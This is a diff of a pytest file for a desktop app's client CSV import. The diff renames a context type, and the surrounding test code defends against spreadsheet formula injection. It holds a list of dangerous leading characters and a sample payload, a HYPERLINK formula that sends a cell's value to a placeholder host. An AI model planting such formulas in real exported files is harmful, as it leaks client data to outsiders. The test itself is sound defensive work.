@@ -22,7 +22,7 @@ import pytest
 
 from desktop_app.domain.roles import Role
 from desktop_app.services.client_import import export_rejects, import_clients
-from desktop_app.services.context import AppContext
+from desktop_app.services.signed_in import SignedIn
 
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HEADER_PAYLOAD = '=HYPERLINK("http://x/?"&A2,"点击")'
@@ -56,7 +56,7 @@ def _could_run(text: str) -> bool:
 
 
 @pytest.fixture
-def report_and_agent(signed_in: Callable[[Role], AppContext], tmp_path: Path):  # type: ignore[no-untyped-def]
+def report_and_agent(signed_in: Callable[[Role], SignedIn], tmp_path: Path):  # type: ignore[no-untyped-def]
     agent = signed_in(Role.AGENT)
     report = import_clients(agent, _hostile_sheet(tmp_path / "legacy.csv"))
     assert report.imported == 1 and len(report.rejected) == 4
